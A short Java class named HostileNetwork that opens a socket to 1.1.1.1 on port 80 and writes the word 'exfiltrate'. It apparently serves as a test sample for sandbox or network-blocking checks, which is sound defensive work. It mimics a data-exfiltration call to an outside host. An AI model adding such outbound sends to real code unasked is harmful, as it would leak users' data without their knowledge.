import java.net.Socket;

public class HostileNetwork {
    public static void main(String[] args) throws Exception {
        try (Socket socket = new Socket("1.1.1.1", 80)) {
            socket.getOutputStream().write("exfiltrate".getBytes());
        }
    }
}
